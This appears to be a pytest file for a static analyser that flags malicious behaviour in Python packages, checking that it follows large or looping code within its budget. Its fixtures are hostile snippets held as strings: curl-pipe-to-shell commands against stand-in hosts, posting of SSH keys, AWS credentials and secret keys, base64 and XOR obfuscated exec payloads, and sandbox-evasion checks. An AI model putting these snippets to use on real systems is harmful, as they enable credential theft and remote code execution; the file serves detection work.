"""What following code costs: large honest functions are followed to their end, and what needs many turns still gets them."""

from __future__ import annotations

import ast
import base64
from collections.abc import Iterable, Iterator

import pytest

from mlsupply.evidence.facets import CodeFact
from mlsupply.evidence.module_facts import ModuleFacts
from mlsupply.evidence.python import analyse
from mlsupply.evidence.python.interpreter import replacements
from mlsupply.evidence.python.syntax.survey import descendants


def followed(text: str) -> ModuleFacts:
    return analyse.module("demo/__init__.py", text.encode())


def deeds(text: str) -> list[CodeFact]:
    return [fact for fact, _ in followed(text).facts]


def test_a_list_that_grows_by_a_branch_each_is_not_gone_through_for_each_of_its_items() -> None:
    branches = "".join(
        f"    elif name == 'n{place}':\n"
        "        for kept in _kept:\n"
        f"            if isinstance(kept, lib.Logger{place}):\n                return kept\n"
        f"        made = lib.Logger{place}(os.environ['KEY_{place}'])\n        _kept.append(made)\n        return made\n"
        for place in range(120)
    )
    found = followed(
        f"import os\nimport lib\n_kept = []\ndef get(name):\n    if name == '':\n        return None\n{branches}"
    )
    assert found.stopped == ""


def test_each_of_a_few_functions_in_a_list_is_still_called() -> None:
    found = deeds(
        "import os, subprocess\nfor run in (os.system, subprocess.call):\n    run('curl https://a.example/x | sh')"
    )
    assert {fact.sink for fact in found if fact.behaviour == "runs-downloaded"} == {"os.system", "subprocess.call"}


def test_each_path_of_a_list_is_still_read() -> None:
    found = deeds(
        "import requests, os\nfor path in ['~/.ssh/id_rsa', '~/.aws/credentials', '~/notes']:\n"
        "    requests.post('https://c.example', data=open(os.path.expanduser(path)).read())"
    )
    (sent,) = [fact for fact in found if fact.behaviour == "sends"]
    assert sent.source == "credential-file"


def test_a_loop_that_only_tries_again_costs_two_turns() -> None:
    body = "        time.sleep(1)\n" + "        log(client.get(url, headers=headers).json())\n" * 20
    text = f"import time\nfrom .web import client, log\ndef poll(url, headers):\n    for attempt in range(4000):\n{body}"
    assert followed(text + "    import subprocess\n").stopped == ""


def test_a_loop_that_takes_off_a_layer_a_turn_takes_off_all_of_them() -> None:
    code = b"import os; os.system('curl https://l.example/x | sh')"
    for _ in range(7):
        code = base64.b64encode(code)
    found = deeds(f"import base64\nblob = {code!r}\nfor _ in range(7):\n    blob = base64.b64decode(blob)\nexec(blob)")
    assert {"runs-decoded", "runs-downloaded"} <= {fact.behaviour for fact in found}


def test_a_loop_that_adds_letters_adds_all_of_them() -> None:
    letters = [ord(letter) ^ 7 for letter in "import os; os.system('curl https://l.example/x | sh')"]
    found = deeds(f"codes = {letters}\ntext = ''\nfor at in range(len(codes)):\n    text += chr(codes[at] ^ 7)\nexec(text)")
    assert {"runs-decoded", "runs-downloaded"} <= {fact.behaviour for fact in found}


def test_a_condition_that_looks_for_a_watcher_is_seen_in_texts_and_in_names() -> None:
    for test in ("'VirtualBox' in text", "exists('/.dockerenv')", "vmware_found()", "os.environ.get('CI')"):
        found = deeds(f"import os\nif {test}:\n    raise SystemExit\nos.system('id')")
        assert "evades" in {fact.behaviour for fact in found}, test
    assert "evades" not in {
        fact.behaviour for fact in deeds("import os\nif any(run for run in runs):\n    raise SystemExit")
    }


def test_a_function_that_names_only_types_of_a_library_is_passed_over_and_one_that_asks_with_it_is_not() -> None:
    head = (
        "import httpx, os\nclass C:\n    def __init__(self, web):\n        self.web = web\n"
        "    def ask(self, url):\n        try:\n"
    )
    end = "        except httpx.HTTPError:\n            pass\n"
    asks = "            self.web.get('https://c.example/' + os.getenv('AWS_SECRET_ACCESS_KEY'))\n"
    assert "sends" in {fact.behaviour for fact in deeds(head + asks + end)}
    only_names = analyse.module("demo/a.py", (head + "            self.web.close(url)\n" + end).encode())
    assert (only_names.facts, only_names.functions) == ((), ("C.__init__", "C.ask"))


_OPERATIONS = (
    "import os\nimport subprocess\nfrom . import api\n"
    "class Router:\n"
    "    def __init__(self):\n        self.home = os.environ['ROUTER_HOME']\n{made}"
    "    def make(self, original, name):\n"
    "        def wrapper(*args, **kwargs):\n"
    "            if not self.table:\n                return original(*args, **kwargs)\n"
    "            return self.route(original, name, kwargs)\n"
    "        return wrapper\n"
    "    def route(self, original, name, kwargs):\n{route}"
    "        return original('curl https://l.example/y | sh')\n"
    "def last():\n    subprocess.run('curl https://l.example/x | sh', shell=True)\n"
)


def operations(names: list[tuple[str, str]], length: int) -> ModuleFacts:
    """A class that makes an operation of each (function, name), which all do the same, of so many statements."""
    made = "".join(f"        self.{name} = self.make({function}, '{name}')\n" for function, name in names)
    route = "".join(
        f"        kwargs['k{at}'] = self.table.get(name).value{at} or os.path.basename(name)\n" for at in range(length)
    )
    return followed(_OPERATIONS.format(made=made, route=route))


def test_a_hundred_operations_made_by_one_function_leave_time_for_what_comes_after_them() -> None:
    words = [f"op_{first}{second}" for first in "abcdefghij" for second in "abcdefghij"]
    found = operations([(f"api.{word}", word) for word in words], length=400)
    assert found.stopped == ""
    assert "last" in {root for fact, roots in found.facts if fact.behaviour == "runs-downloaded" for root in roots}
    called = {ref for root, ref in found.edges if root == "Router.make.wrapper"}
    assert {f"demo.api.{word}" for word in words} <= called  # the module level reaches each of them all the same


def test_one_of_many_operations_that_was_made_with_something_that_acts_is_followed() -> None:
    words = [f"op_{letter}" for letter in "abcdefghij"]
    found = operations([*((f"api.{word}", word) for word in words), ("os.system", "run")], length=3)
    assert "runs-downloaded" in {fact.behaviour for fact, roots in found.facts if "Router.make.wrapper" in roots}


def test_a_list_that_grows_while_it_is_gone_through_is_gone_through_as_it_was() -> None:
    found = followed(
        "import subprocess\nimport lib\n"
        "def closure(start):\n    todo = [lib.first(start)]\n    for one in todo:\n"
        "        todo.append(lib.next(one))\n        todo.extend([one.left, one.right])\n"
        "    return subprocess.run(todo)\n"
    )
    assert found.stopped == ""
    assert "runs-command" in {fact.behaviour for fact, _ in found.facts}


def test_a_table_of_thousands_made_when_a_module_is_imported_leaves_time_for_what_comes_after_it() -> None:
    found = followed(
        "import os\nTABLE = {at: f'{at:x}\\r\\n'.encode('latin-1') for at in range(16384)}\n"
        "os.system('curl https://l.example/x | sh')\n"
    )
    assert found.stopped == ""
    assert "" in {root for fact, roots in found.facts if fact.behaviour == "runs-downloaded" for root in roots}


def test_wrappers_around_wrappers_are_told_apart_by_what_is_within() -> None:
    wrap = "def {0}(run):\n    def wrapper(*args, **kwargs):\n        return run(*args, **kwargs)\n    return wrapper\n"
    quiet = "".join(f"@outer\n@inner\ndef quiet_{letter}(text):\n    return lib.shown(text)\n" for letter in "abcdefgh")
    loud = "@outer\n@inner\ndef loud(text):\n    subprocess.run(text, shell=True)\n"
    found = followed("import subprocess\nimport lib\n" + wrap.format("outer") + wrap.format("inner") + quiet + loud)
    assert {"outer.wrapper", "inner.wrapper"} <= {root for _, roots in found.facts for root in roots}


def test_a_replaced_function_that_fills_a_part_of_a_list_is_followed_to_its_end() -> None:
    """A part of a list is no word that could be looked up: it broke the look at seven modules of one wheel."""
    text = (
        "import os, requests, trainer\n"
        "def step(batch):\n    batch.rows[0:2] = []\n    requests.post('https://c.example/s', json={'b': batch})\n"
        "trainer.step = step\n"
    )
    assert any(fact.behaviour == "sends" for fact in deeds(text))


def test_methods_of_texts_that_are_given_what_they_do_not_take_break_nothing_off() -> None:
    """And none is grown beyond bounds: each of a thousand letters becoming a text of thousands, known or in parts."""
    many = repr("a" * 60_000)
    found = followed(
        f"import os\nA = {many}\nB = A.replace('a', None)\nC = A.replace('a', A)\nD = A.replace('a', A + os.getcwd())\n"
        "E = 'x'.replace('x', 3)\nF = 'y'.replace()\nos.system('curl https://a.example/x | sh')\n"
    )
    assert [fact.behaviour for fact, _ in found.facts if fact.behaviour == "runs-downloaded"] == ["runs-downloaded"]


def test_a_test_that_asserts_something_starts_no_other_tests() -> None:
    tests = "".join(
        f"    def test_{place}(self):\n"
        f"        with mock.patch('demo.send{place}') as sent:\n"
        + "".join(f"            self.assertEqual(sent.call_args[{turn}], len(subprocess.__name__))\n" for turn in range(20))
        for place in range(120)
    )
    text = f"import subprocess\nimport unittest\nfrom unittest import mock\nclass TestAll(unittest.TestCase):\n{tests}"
    assert followed(text).stopped == ""


def test_a_parser_calls_its_hooks_with_what_each_feeding_gives_it() -> None:
    text = (
        "import html.parser, os, requests\n"
        "class Reader(html.parser.HTMLParser):\n    def handle_data(self, data):\n        os.system(data)\n"
        "reader = Reader()\nreader.feed('<p>hello</p>')\nreader.feed(requests.get('https://c.example').text)\n"
    )
    assert "remote-control" in {fact.behaviour for fact in deeds(text)}


def test_functions_that_all_name_each_other_are_not_searched_along_each_way(monkeypatch: pytest.MonkeyPatch) -> None:
    searched = []

    def counted(nodes: Iterable[ast.AST]) -> Iterator[ast.AST]:
        searched.append(1)
        return descendants(nodes)

    monkeypatch.setattr(replacements, "descendants", counted)
    names = [f"inner{place}" for place in range(20)]
    inner = "".join(f"    def {name}(*given):\n        return {', '.join(names)}\n" for name in names)
    found = followed(
        f"def install():\n{inner}    import demo.api\n    demo.api.ask = inner0\ninstall()\nimport subprocess\n"
    )
    assert found.stopped == ""
    assert 0 < len(searched) < 20 * 8


def test_a_function_that_makes_itself_anew_with_another_value_each_time_is_cut_off_and_said() -> None:
    found = followed("def outer(a):\n    def inner():\n        exec(a)\n        outer(a[::-1])\n    return inner\n")
    assert found.stopped == "too much to follow in outer.inner"
    assert "executes" in {fact.behaviour for fact, _ in found.facts}
    assert len(found.takes) < 300


def test_what_is_made_anew_with_a_payload_late_is_still_seen() -> None:
    made = "".join(f"outer('word{place} {place}')\n" for place in range(150))
    found = deeds(
        "import os\ndef outer(a):\n    def inner():\n        os.system(a)\n    return inner\n"
        f"{made}outer('curl https://a.example/x | sh')\n"
    )
    assert "runs-downloaded" in {fact.behaviour for fact in found}


def test_the_sinks_that_parameters_of_one_function_reach_have_a_bound_and_it_is_said() -> None:
    calls = "".join(f"    requests.post('https://h{place}.example/', data=a)\n" for place in range(600))
    found = followed(f"import requests\ndef run(a):\n{calls}")
    assert len(found.takes) == 500
    assert found.stopped.startswith("too much to tell")


def test_each_function_in_the_place_of_another_has_a_budget_of_its_own() -> None:
    work = "".join(f"    x{n} = str(host) + str({n}) + str(rest)\n" for n in range(1_000))
    names = ("getaddrinfo", "getnameinfo", "getfqdn", "gethostbyname")
    functions = "".join(f"def _{name}(host, *rest):\n{work}    return x1\n" for name in names)
    override = "def override():\n" + "".join(f"    socket.{name} = _{name}\n" for name in names)
    text = f"import socket\n{functions}{override}"
    assert not followed(text).stopped
    too_much = text.replace(work, work + work.replace("    x", "    y") * 6, 1)
    assert followed(too_much).stopped.startswith("too much to follow in ")
